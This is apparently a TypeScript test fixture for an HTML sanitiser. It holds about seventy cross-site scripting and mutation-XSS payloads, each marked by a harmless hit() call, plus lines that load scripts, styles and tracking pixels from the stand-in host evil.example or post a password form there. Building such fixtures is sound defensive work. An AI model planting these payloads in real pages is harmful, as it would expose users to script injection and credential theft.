/**
 * HTML that tries to run something, to look like something else, or to load from elsewhere, the ways known from browsers and
 * from sanitisers that were fooled. Whatever runs calls `hit`; the words "đọc được" must survive where they stand in text.
 */
export const hostileHtml: Readonly<Record<string, string>> = {
  script: '<p>đọc được</p><script>hit(1)</script>',
  'script in upper case': '<ScRiPt>hit(2)</sCrIpT><p>đọc được</p>',
  'script split by a tag': '<scr<script>ipt>hit(3)</scr</script>ipt><p>đọc được</p>',
  'script never closed': '<p>đọc được</p><script>hit(4)',
  'script with a slash': '<script/x>hit(5)</script><p>đọc được</p>',
  'script from elsewhere': '<script src="https://evil.example/x.js"></script><p>đọc được</p>',
  'picture that fails': '<p>đọc được<img src="x" onerror="hit(6)"></p>',
  'picture without quotes': '<p>đọc được<img src=x onerror=hit(7)></p>',
  'picture with slashes': '<img/src=x/onerror=hit(8)><p>đọc được</p>',
  'picture by backtick': '<img src=`x`onerror=`hit(9)`><p>đọc được</p>',
  'picture with a newline': '<img src=x\nonerror\n=\n"hit(10)"><p>đọc được</p>',
  'picture never closed': '<p>đọc được</p><img src=x onerror=hit(11)//',
  'picture that spies':
    '<p>đọc được<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x"></p>',
  'known picture that spies':
    '<p>đọc được<img data-picture="5e0f1a10-0000-4000-8000-000000000001" src="https://evil.example/a" onload="hit(12)"></p>',
  'picture id that breaks out': '<p>đọc được<img data-picture="x&quot; onerror=&quot;hit(13)"></p>',
  'event on text': '<p onclick="hit(14)" onmouseover="hit(14)" onpointerenter=hit(14)>đọc được</p>',
  'event on focus': '<p tabindex="0" autofocus onfocus="hit(15)">đọc được</p>',
  'event at an animation': '<p style="animation:x" onanimationstart="hit(16)">đọc được</p>',
  'link to script': '<p><a href="javascript:hit(17)">đọc được</a></p>',
  'link with a tab': '<p><a href="java\tscript:hit(18)">đọc được</a></p>',
  'link with an entity': '<p><a href="java&#x0A;script&colon;hit(19)">đọc được</a></p>',
  'link with a control sign': '<p><a href="\u0001javascript:hit(20)">đọc được</a></p>',
  'link in entities':
    '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hit(21)">đọc được</a></p>',
  'link to data': '<p><a href="data:text/html,<script>hit(22)</script>">đọc được</a></p>',
  'link to vbscript': '<p><a href="vbscript:hit(23)">đọc được</a></p>',
  'link without scheme': '<p><a href="//evil.example">đọc được</a></p>',
  'link by backslash': '<p><a href="/\\evil.example">đọc được</a></p>',
  'link that looks like a bank': '<p><a href="https://vietcombank.com.vn@evil.example/">đọc được</a></p>',
  'link that opens over us':
    '<p><a href="https://a.example" target="_top" ping="https://evil.example">đọc được</a></p>',
  'call that dials more': '<p><a href="tel:*21*0900000000#">đọc được</a></p>',
  style: '<style>@import "https://evil.example/x.css";body{display:none}</style><p>đọc được</p>',
  'style that covers': '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">đọc được</p>',
  'style sheet': '<link rel="stylesheet" href="https://evil.example/x.css"><p>đọc được</p>',
  frame: '<iframe src="javascript:hit(24)"></iframe><p>đọc được</p>',
  'frame with a document': '<iframe srcdoc="<script>parent.hit(25)</script>"></iframe><p>đọc được</p>',
  object: '<object data="javascript:hit(26)"></object><embed src="javascript:hit(26)"><p>đọc được</p>',
  'base that moves links': '<base href="https://evil.example/"><p>đọc được</p>',
  'page that leaves': '<meta http-equiv="refresh" content="0;url=javascript:hit(27)"><p>đọc được</p>',
  'form that asks for a password':
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:hit(28)">Gửi</button></form><p>đọc được</p>',
  drawing: '<svg onload="hit(29)"><path d="M0 0"></path></svg><p>đọc được</p>',
  'script in a drawing': '<svg><script>hit(30)</script></svg><p>đọc được</p>',
  'link in a drawing': '<svg><a xlink:href="javascript:hit(31)"><text>x</text></a></svg><p>đọc được</p>',
  'animated link': '<svg><animate attributeName="href" values="javascript:hit(32)"/></svg><p>đọc được</p>',
  'foreign object':
    '<svg><foreignObject><iframe src="javascript:hit(33)"></iframe></foreignObject></svg><p>đọc được</p>',
  'style in a drawing': '<svg></p><style><a id="</style><img src=1 onerror=hit(34)>"></a></style></svg><p>đọc được</p>',
  'formula and a table':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(35)></style></mglyph></form><p>đọc được</p>',
  'formula and a comment':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(36)&gt;"></table></mtext></math><p>đọc được</p>',
  'nothing but scripts may read':
    '<noscript><p title="</noscript><img src=x onerror=hit(37)>"></noscript><p>đọc được</p>',
  'text area': '<textarea><p title="</textarea><img src=x onerror=hit(38)>"></textarea><p>đọc được</p>',
  title: '<title><p title="</title><img src=x onerror=hit(39)>"></title><p>đọc được</p>',
  'raw text': '<xmp><p title="</xmp><img src=x onerror=hit(40)>"></xmp><p>đọc được</p>',
  'plain text': '<p>đọc được</p><plaintext><img src=x onerror=hit(41)>',
  template: '<template><script>hit(42)</script></template><p>đọc được</p>',
  comment: '<!--><img src=x onerror=hit(43)>--><p>đọc được</p>',
  'conditional comment': '<!--[if gte IE 4]><script>hit(44)</script><![endif]--><p>đọc được</p>',
  'section of raw data': '<![CDATA[<img src=x onerror=hit(45)>]]><p>đọc được</p>',
  instruction: '<?xml-stylesheet href="javascript:hit(46)"?><p>đọc được</p>',
  'attribute that breaks out': '<p title="&quot;><img src=x onerror=hit(47)>">đọc được</p>',
  'element of its own': '<x-y onfocus=hit(48) tabindex=1 autofocus><p>đọc được</p></x-y>',
  details: '<details open ontoggle="hit(49)"><p>đọc được</p></details>',
  video: '<video><source onerror="hit(50)"></video><audio src=x onerror=hit(50)></audio><p>đọc được</p>',
  marquee: '<marquee onstart=hit(51)><p>đọc được</p></marquee>',
  'clobbered names':
    '<p id="root">đọc được</p><img name="getElementById"><a id="location" href="https://evil.example">x</a>',
  'escaped once': '<p>&lt;script&gt;hit(52)&lt;/script&gt; đọc được</p>',
  'escaped twice': '<p>&amp;lt;img src=x onerror=hit(53)&amp;gt; đọc được</p>',
  'nothing in between': '<p>đọc được</p>\u0000<scr\u0000ipt>hit(54)</script>',
  'letters of full width': '<p>đọc được</p>＜script＞hit(55)＜/script＞',
  'a thousand levels': `${'<blockquote>'.repeat(1000)}<p>đọc được</p>${'</blockquote>'.repeat(1000)}`,
};

/** All of it in one article; without what a server refuses to read at all: U+0000, and pictures nobody handed in. */
export const hostileArticle: string = Object.values(hostileHtml)
  .filter((html) => !html.includes('\0') && !html.includes('data-picture="5e'))
  .join('\n');
